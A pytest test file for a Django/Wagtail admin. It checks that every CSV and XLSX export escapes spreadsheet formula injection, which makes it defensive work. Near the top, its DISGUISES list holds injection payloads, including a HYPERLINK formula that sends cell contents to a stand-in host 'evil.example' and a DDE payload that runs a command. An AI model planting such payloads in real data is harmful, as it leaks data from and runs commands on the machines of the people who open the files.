"""Formulas as names: no cell of an exported file is a formula in a spreadsheet."""

import csv
import io
import re

import pytest
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.contrib.redirects.models import Redirect
from wagtail.models import GroupApprovalTask, ModelLogEntry, Page, PageLogEntry, Workflow, WorkflowTask

from learning.activities.choices import Source
from learning.activities.enrolment import actions as enrolment_actions
from learning.activities.models import Activity, Consent, DeclaredFigure, Enrolment, Theme
from learning.certificates.models import Certificate
from learning.core.files.spreadsheets import FORMULAS
from learning.media.models import Recording
from learning.people import audit_log
from learning.people.models import Organisation, Person
from tests.permissions.fillings import address_of
from tests.permissions.walking import listings
from tests.permissions.whole_table import TABLE
from tests.reports.screen_parser import LISTINGS

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Ana")'
DISGUISES = [
    FORMULA,
    "+1+cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
    "Ana;=1+1",
]
ENDS_OF_CELLS = re.compile(r"[;|\t\r\n]")


@pytest.fixture(scope="module")
def files(world):
    """Return every address in the admin that exports a table as a file: ours, Wagtail's own and other packages'."""
    client, found = world.clients["superuser"], []
    for route in dict.fromkeys([*TABLE, *listings()]):
        if route.startswith("admin/") and "<str" not in route:
            address = address_of(world, route)
            address += "&" if "?" in address else "?"
            response = client.get(f"{address}export=csv")
            is_file = "attachment" in response.headers.get("Content-Disposition", "")
            if is_file and response.headers["Content-Type"].startswith("text/csv") and cells(response):
                found.append(address)
    return found


def content(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def cells(response):
    return [cell for row in csv.reader(io.StringIO(content(response).decode("utf-8-sig"))) for cell in row]


def dress(world, formula):
    """Write the formula into everything that people and officers can write, without validation."""
    Person.objects.update(name=formula, job_title=formula)
    Person.objects.filter(pk=world.person.pk).update(external_id=formula)
    Organisation.objects.update(name=formula, place=formula)
    Organisation.objects.filter(pk=world.organisation.pk).update(external_id=formula)
    Activity.objects.update(title=formula, place=formula)
    Certificate.objects.update(holder=formula)
    Page.objects.update(title=formula, draft_title=formula)
    Page.objects.filter(pk=world.lesson.pk).update(locked=True, locked_at=timezone.now())
    PageLogEntry.objects.update(label=formula)
    ModelLogEntry.objects.update(label=formula)
    Redirect.objects.create(old_path=formula, redirect_link=formula)
    Recording.objects.update(title=formula)
    Theme.objects.update(name_en=formula)
    DeclaredFigure.objects.update(label=formula, source=formula, unit=formula)
    submit_for_moderation(world, formula)
    Consent.objects.create(person=world.person, purpose="newsletter", given_at=timezone.now())
    Enrolment.objects.filter(pk=world.enrolment.pk).update(country="CO")
    officer, details = world.accounts["officer"], {"filters": [formula]}
    audit_log.record(audit_log.Action.MERGED, officer, world.person, reason=formula, details=details)


def submit_for_moderation(world, formula):
    """Submit a page to a workflow, both named with `formula`."""
    workflow, task = Workflow.objects.create(name=formula), GroupApprovalTask.objects.create(name=formula)
    WorkflowTask.objects.create(workflow=workflow, task=task)
    page = Page.objects.get(pk=world.webinar.pk).specific
    page.save_revision()
    workflow.start(page, world.accounts["officer"])


def test_list_of_exported_files(world, files):
    names = {address.partition("?")[0] for address in files}
    assert {name for name in names if not name.endswith("/results/")} == {
        "/admin/organisations/",
        "/admin/persons/",
        "/admin/activities/",
        "/admin/certificates/",
        f"/admin/activities/{world.activity.pk}/participants/",
        "/admin/figures/",
        "/admin/figures/annual/",
        f"/admin/figures/activity/{world.activity.pk}/",
        f"/admin/figures/frozen/{world.snapshot.pk}/",
        *(f"/admin/figures/{screen}/" for screen in LISTINGS),
        "/admin/figures/quality/",
        "/admin/figures/recordings/",
        "/admin/figures/participations/file/",
        "/admin/figures/people/",
        "/admin/reports/audit-log/",
        "/admin/reports/consents/",
        "/admin/reports/courses/",
        # Wagtail's own.
        "/admin/redirects/",
        "/admin/reports/aging-pages/",
        "/admin/reports/locked/",
        "/admin/reports/site-history/",
        "/admin/reports/workflow/",
        "/admin/reports/workflow_tasks/",
        f"/admin/quizzes/{world.quiz_activity.pk}/",
    }


@pytest.mark.parametrize("formula", DISGUISES)
def test_no_exported_cell_is_a_formula(world, files, formula):
    dress(world, formula)
    client, seen = world.clients["superuser"], 0
    for address in files:
        for cell in cells(client.get(f"{address}export=csv")):
            seen += formula.strip()[-3:] in cell
            assert [part for part in ENDS_OF_CELLS.split(cell) if part.lstrip(" ").startswith(FORMULAS)] == [], address
        book = load_workbook(io.BytesIO(content(client.get(f"{address}export=xlsx"))))
        assert [cell.coordinate for row in book.active.iter_rows() for cell in row if cell.data_type == "f"] == []
    assert seen > 5


def test_formula_in_profile_is_exported_as_text(as_officer, official):
    """From the form to the file."""
    official.person.name = FORMULA
    official.person.save()
    enrolment_actions.enrol(
        Activity.objects.create(title="Care", kind="webinar"), official.person, source=Source.OFFICER
    )
    assert f"'{FORMULA}" in cells(as_officer.get("/admin/persons/?export=csv"))
